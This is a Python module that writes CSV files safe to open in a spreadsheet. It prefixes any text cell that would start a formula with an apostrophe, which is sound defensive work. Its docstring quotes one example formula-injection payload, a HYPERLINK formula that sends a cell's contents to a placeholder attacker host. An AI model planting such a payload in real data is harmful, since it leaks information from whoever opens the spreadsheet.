"""CSV files that people open in a spreadsheet, with formula injection neutralised.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one)
as a formula: a client who types `=HYPERLINK("http://evil.example/?"&A1, "Click")` as their
name would get a live formula into the clinic's spreadsheet. Every CSV we write for people
goes through `writer()`, which puts an apostrophe before such a cell (OWASP's advice): the
spreadsheet shows the text as typed, with the apostrophe hidden, and runs nothing.

Only text is touched: numbers stay numbers, so a negative number is not a formula. Imports
(imports/) and anything else above this layer use this module; CSV written for programs
(PostgreSQL's COPY in demo/scale.py) is not for spreadsheets and keeps its data unchanged.
"""

import csv

# The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet should see it: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer with every cell through safe_cell()."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet (same arguments as csv.writer)."""
    return SafeWriter(stream, **kwargs)
